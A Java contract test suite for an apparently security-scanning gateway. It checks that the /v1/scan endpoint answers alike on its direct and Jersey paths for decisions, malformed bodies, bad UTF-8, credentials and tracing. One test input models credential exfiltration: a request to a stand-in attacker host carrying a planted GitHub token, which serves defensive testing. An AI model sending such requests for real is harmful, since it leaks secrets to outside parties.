package io.interven.gateway.contract;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.interven.gateway.testing.AtExit;
import io.interven.gateway.testing.GatewayHarness;
import io.interven.gateway.testing.HttpResult;
import io.interven.gateway.testing.TenantFixture;
import io.interven.gateway.testing.TestDatabase;
import java.io.ByteArrayInputStream;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * {@code POST /v1/scan} answered in front of Jersey gives every request the answer Jersey gives it: the same request
 * is sent to a gateway as configured by default and to one with {@code directScan: false}, each with a tenant of its
 * own, and the two answers are compared: status, every header but the framing ones, and the JSON body, with the ids
 * that differ between two tenants (UUIDs, trace and span ids) masked. The cases cover answers the direct path gives
 * (every decision, every error after the rate limit) and requests it leaves to Jersey (no key, wrong role, other
 * media types, signed requests). A last test shows the direct path answered at all, and only on the default
 * gateway: {@code interven_scan_direct_total} counts its answers.
 */
abstract class DirectScanContract extends GatewayContract {
    private static final Map<String, GatewayHarness> JERSEY_ONLY = new HashMap<>();
    private static final Pattern UUID_TEXT =
            Pattern.compile("[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}");
    private static final Pattern HEX_ID = Pattern.compile("\\b[0-9a-f]{16}(?:[0-9a-f]{16})?\\b");
    private static final Set<String> FRAMING = Set.of("date", "content-length", "transfer-encoding");
    private static final String SLACK_URL = "https://hooks.slack.com/services/T1/B1/x";

    private GatewayHarness jerseyOnly() {
        synchronized (JERSEY_ONLY) {
            return JERSEY_ONLY.computeIfAbsent(database(), kind -> {
                GatewayHarness harness = GatewayHarness.on(TestDatabase.fresh(kind))
                        .override("directScan", "false").start();
                AtExit.closeGateway(harness::close);
                return harness;
            });
        }
    }

    /** The answers of both gateways to {@code body} with {@code headers}, each sent with its own tenant's key. */
    private void assertSameAnswer(String role, Map<String, String> headers, String body) {
        Answer direct = send(gateway(), role, headers, body);
        Answer jersey = send(jerseyOnly(), role, headers, body);
        assertThat(direct).isEqualTo(jersey);
    }

    private record Answer(int status, Map<String, List<String>> headers, JsonNode body, String text) {
    }

    private Answer send(GatewayHarness harness, String role, Map<String, String> headers, String body) {
        return send(harness, role, headers, body, false);
    }

    /** {@code chunked}: the body sent without a Content-Length, as a stream of unknown length. */
    private Answer send(GatewayHarness harness, String role, Map<String, String> headers, String body,
                        boolean chunked) {
        return send(harness, role, headers, body.getBytes(StandardCharsets.UTF_8), chunked);
    }

    private Answer send(GatewayHarness harness, String role, Map<String, String> headers, byte[] bytes,
                        boolean chunked) {
        Map<String, String> sent = new LinkedHashMap<>(headers);
        if (role != null) {
            sent.put("Authorization", "Bearer " + keyWith(harness, role));
        }
        HttpResult result = harness.exchange("POST", "/v1/scan", sent, chunked
                ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes))
                : HttpRequest.BodyPublishers.ofByteArray(bytes));
        Map<String, List<String>> kept = new TreeMap<>();
        result.headers().map().forEach((name, values) -> {
            if (!FRAMING.contains(name.toLowerCase(Locale.ROOT))) {
                kept.put(name.toLowerCase(Locale.ROOT), values.stream().map(DirectScanContract::masked).toList());
            }
        });
        JsonNode json = result.json().isMissingNode() ? null : readMasked(result.text());
        return new Answer(result.status(), kept, json, json == null ? masked(result.text()) : null);
    }

    private static JsonNode readMasked(String text) {
        try {
            return GatewayHarness.JSON.readTree(masked(text));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String masked(String text) {
        return HEX_ID.matcher(UUID_TEXT.matcher(text).replaceAll("<uuid>")).replaceAll("<hex>");
    }

    /** A key of a new tenant: "all" holds admin, analyst and scan; any other value is the one role it holds. */
    private static String keyWith(GatewayHarness harness, String role) {
        TenantFixture tenant = harness.newTenant();
        if (role.equals("all")) {
            return tenant.key();
        }
        HttpResult key = harness.post("/v1/admin/keys", tenant.key(), Map.of("tenant_id", tenant.tenantId(),
                "env_name", "production", "roles", List.of(role)));
        assertThat(key.status()).isEqualTo(201);
        return key.field("key");
    }

    private static String call(String method, String url, Object body) {
        Map<String, Object> call = new LinkedHashMap<>();
        call.put("method", method);
        call.put("url", url);
        if (body != null) {
            call.put("body", body);
        }
        return GatewayHarness.write(call);
    }

    private static final Map<String, String> JSON = Map.of("Content-Type", "application/json");

    @Test
    void everyDecisionIsAnsweredAlike() {
        assertSameAnswer("all", JSON, call("POST", SLACK_URL, Map.of("text", "hello")));
        assertSameAnswer("scan", JSON, call("POST", SLACK_URL, Map.of("text", "deploy with "
                + PlantedValues.GITHUB_TOKEN)));
        assertSameAnswer("scan", JSON, GatewayHarness.write(Map.of("method", "GET",
                "url", "https://collector.evil.example/upload",
                "headers", Map.of("Authorization", "Bearer " + PlantedValues.GITHUB_TOKEN))));
        assertSameAnswer("scan", Map.of(), call("POST", SLACK_URL, Map.of("text", "no content type")));
    }

    @Test
    void aBodyIsReadWholeWhetherItsLengthIsDeclaredOrNot() {
        // the declared length sizes the array the body is read into, up to 64 KB: a body past that, and one whose
        // length is not declared at all, are read whole too, to the planted token at their end
        String small = call("POST", SLACK_URL, Map.of("text", "deploy with " + PlantedValues.GITHUB_TOKEN));
        String large = call("POST", SLACK_URL, Map.of("text", "all good. ".repeat(10_000) + "deploy with "
                + PlantedValues.GITHUB_TOKEN));
        for (String body : List.of(small, large)) {
            for (boolean chunked : new boolean[] {false, true}) {
                Answer direct = send(gateway(), "scan", JSON, body, chunked);

                assertThat(direct.status()).as("chunked %s, %d bytes", chunked, body.length()).isEqualTo(200);
                assertThat(direct.body().path("decision").asText()).isEqualTo("SANITIZE");
                assertThat(direct.body().toString()).doesNotContain(PlantedValues.GITHUB_TOKEN);
                assertThat(direct).isEqualTo(send(jerseyOnly(), "scan", JSON, body, chunked));
            }
        }
    }

    @Test
    void invalidRequestsAreAnsweredAlike() {
        assertSameAnswer("scan", JSON, "");
        assertSameAnswer("scan", JSON, "{");
        assertSameAnswer("scan", JSON, "[1, 2]");
        assertSameAnswer("scan", JSON, "{\"method\": \"POST\", \"method\": \"GET\", \"url\": \"" + SLACK_URL + "\"}");
        assertSameAnswer("scan", JSON, call("POST", SLACK_URL, null) + " {}");
        assertSameAnswer("scan", JSON, "{\"method\": \"POST\"}");
        assertSameAnswer("scan", JSON, call("FETCH", SLACK_URL, null));
        assertSameAnswer("scan", JSON, call("POST", "not a url", null));
        assertSameAnswer("scan", JSON, GatewayHarness.write(Map.of("method", "POST", "url", SLACK_URL,
                "agent_id", "not-a-uuid")));
        assertSameAnswer("scan", JSON, GatewayHarness.write(Map.of("method", "POST", "url", SLACK_URL,
                "agent_id", UUID.randomUUID().toString(), "agent_name", "x".repeat(10_000))));
        assertSameAnswer("scan", JSON, call("POST", SLACK_URL, Map.of("text", "x".repeat(300_000))));
    }

    /**
     * A body that is not well-formed UTF-8 is refused at the root, as Jackson alone did not refuse overlong forms:
     * the bad bytes split a token inside a JSON string, and every form gets the same 400 from both paths.
     */
    @Test
    void aBodyThatIsNotUtf8IsRefusedAlike() {
        String token = PlantedValues.GITHUB_TOKEN;
        for (String hex : List.of("c080", "c0af", "c1ab", "e080af", "f08080af", "f4908080", "eda080", "f5808080",
                "fffe", "c328", "80", "e282")) {
            byte[] body = bodyWithBytes(token.substring(0, 10), java.util.HexFormat.of().parseHex(hex),
                    token.substring(10));
            assertNotUtf8AnsweredAlike(hex, body);
        }
        // Jackson alone reads UTF-16 (told by its NUL bytes), where a UTF-8 reader sees other text
        assertNotUtf8AnsweredAlike("UTF-16", call("POST", SLACK_URL, Map.of("text", "a\uc3a9 "
                + PlantedValues.GITHUB_TOKEN)).getBytes(StandardCharsets.UTF_16BE));
    }

    /** 400 at the root saying the body is not UTF-8, the same from both paths, with a length declared or not. */
    private void assertNotUtf8AnsweredAlike(String name, byte[] body) {
        for (boolean chunked : new boolean[] {false, true}) {
            Answer direct = send(gateway(), "scan", JSON, body, chunked);

            assertThat(direct.status()).as("%s: %s", name, direct).isEqualTo(400);
            assertThat(direct.body().path("code").asText()).isEqualTo("VALIDATION_FAILED");
            assertThat(direct.body().path("details")).hasSize(1);
            assertThat(direct.body().path("details").get(0).path("field").asText()).isEqualTo("$");
            assertThat(direct.body().path("details").get(0).path("problem").asText()).contains("UTF-8");
            assertThat(direct.headers().get("content-type").get(0)).startsWith("application/json");
            assertThat(direct).as(name).isEqualTo(send(jerseyOnly(), "scan", JSON, body, chunked));
        }
    }

    @Test
    void aBodyOfWellFormedMultiByteTextIsScannedAlike() {
        byte[] body = bodyWithBytes("caf\u00e9 \u65e5\u672c \ud83d\ude00 ", new byte[0], PlantedValues.GITHUB_TOKEN);
        Answer direct = send(gateway(), "scan", JSON, body, false);

        assertThat(direct.status()).as("%s", direct).isEqualTo(200);
        assertThat(direct.body().path("decision").asText()).isEqualTo("SANITIZE");
        assertThat(direct).isEqualTo(send(jerseyOnly(), "scan", JSON, body, false));
    }

    /** A scan of a Slack post whose text is {@code before}, the raw bytes {@code inside}, then {@code after}. */
    private static byte[] bodyWithBytes(String before, byte[] inside, String after) {
        String call = call("POST", SLACK_URL, Map.of("text", before + "\u0000" + after));
        byte[] head = call.substring(0, call.indexOf("\\u0000")).getBytes(StandardCharsets.UTF_8);
        byte[] tail = call.substring(call.indexOf("\\u0000") + 6).getBytes(StandardCharsets.UTF_8);
        byte[] body = java.util.Arrays.copyOf(head, head.length + inside.length + tail.length);
        System.arraycopy(inside, 0, body, head.length, inside.length);
        System.arraycopy(tail, 0, body, head.length + inside.length, tail.length);
        return body;
    }

    @Test
    void requestsLeftToJerseyAreAnsweredAsBefore() {
        String slack = call("POST", SLACK_URL, Map.of("text", "hello"));
        assertSameAnswer(null, JSON, slack);
        assertSameAnswer("analyst", JSON, slack);
        assertSameAnswer("admin", JSON, slack);
        assertSameAnswer("scan", Map.of("Content-Type", "application/json", "Accept", "text/plain"), slack);
        assertSameAnswer("scan", Map.of("Content-Type", "application/json", "Accept", "application/json;q=0"),
                slack);
        assertSameAnswer("scan", Map.of("Content-Type", "application/json", "Accept", "text/html, */*"), slack);
        assertSameAnswer("scan", Map.of("Content-Type", "text/plain"), slack);
        assertSameAnswer("scan", Map.of("Content-Type", "application/json; charset=UTF-8"), slack);
        assertSameAnswer("scan", Map.of("Content-Type", "application/json", "X-Interven-Nonce", "abcdefgh12345678"),
                slack);
    }

    @Test
    void malformedCredentialsAreAnsweredAlike() {
        String slack = call("POST", SLACK_URL, Map.of("text", "hello"));
        for (String authorization : List.of("Bearer", "Bearer ", "Basic dXNlcjpwYXNz", "Bearer iv_live_nope",
                "Bearer  iv_live_" + "a".repeat(40), "bearer\tiv_live_x")) {
            Map<String, String> headers = new LinkedHashMap<>(JSON);
            headers.put("Authorization", authorization);
            assertSameAnswer(null, headers, slack);
        }
    }

    @Test
    void theCallersTraceIsHonouredAlike() {
        Map<String, String> headers = new LinkedHashMap<>(JSON);
        headers.put("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01");
        Answer direct = send(gateway(), "scan", headers, call("POST", SLACK_URL, Map.of("text", "hello")));
        Answer jersey = send(jerseyOnly(), "scan", headers, call("POST", SLACK_URL, Map.of("text", "hello")));

        assertThat(direct).isEqualTo(jersey);
        assertThat(direct.headers().get("traceparent")).hasSize(1);
    }

    @Test
    void theDefaultGatewayAnswersPlainScansWithoutJersey() {
        double before = directScans(gateway());
        double beforeJerseyOnly = directScans(jerseyOnly());
        for (GatewayHarness harness : List.of(gateway(), jerseyOnly())) {
            TenantFixture tenant = harness.newTenant();
            assertThat(tenant.scan(Map.of("method", "POST", "url", SLACK_URL)).status()).isEqualTo(200);
            assertThat(harness.exchange("POST", "/v1/scan", Map.of("Authorization", "Bearer " + tenant.key(),
                    "Accept", "text/plain"), HttpRequest.BodyPublishers.ofString(call("POST", SLACK_URL, null)))
                    .status()).isEqualTo(406);
        }

        assertThat(directScans(gateway())).isGreaterThanOrEqualTo(before + 1);
        assertThat(directScans(jerseyOnly())).isEqualTo(beforeJerseyOnly);
    }

    /**
     * A request the direct path reads the key of and then leaves to Jersey has its key read once, not twice: a
     * made-up key must not cost two look-ups in the database. The auth stage's timer counts every read of a key.
     */
    @Test
    void aKeyReadInFrontOfJerseyIsNotReadAgainByJersey() {
        String slack = call("POST", SLACK_URL, Map.of("text", "hello"));
        List<String> keys = List.of("iv_live_" + "Zq9".repeat(14), keyWith(gateway(), "analyst"),
                keyWith(gateway(), "admin"), keyWith(gateway(), "scan"));
        List<Integer> statuses = new ArrayList<>();
        double before = keyReads(gateway());
        for (String key : keys) {
            statuses.add(gateway().exchange("POST", "/v1/scan", Map.of("Content-Type", "application/json",
                    "Authorization", "Bearer " + key), HttpRequest.BodyPublishers.ofString(slack)).status());
        }

        assertThat(statuses).containsExactly(401, 403, 200, 200);
        assertThat(keyReads(gateway()) - before).isEqualTo(keys.size());
    }

    /** How many keys were read, as the auth stage's timer counts them in the admin port's scrape. */
    private static double keyReads(GatewayHarness harness) {
        String scrape = harness.getAdmin("/metrics").text();
        return scrape.lines().filter(line -> line.startsWith("interven_scan_stage_seconds_count{")
                        && line.contains("stage=\"auth\""))
                .mapToDouble(line -> Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1).trim()))
                .findFirst().orElseThrow();
    }

    /** {@code interven_scan_direct_total} in the admin port's scrape. */
    private static double directScans(GatewayHarness harness) {
        String scrape = harness.getAdmin("/metrics").text();
        return scrape.lines().filter(line -> line.startsWith("interven_scan_direct_total "))
                .mapToDouble(line -> Double.parseDouble(line.substring(line.indexOf(' ') + 1).trim()))
                .findFirst().orElseThrow();
    }
}
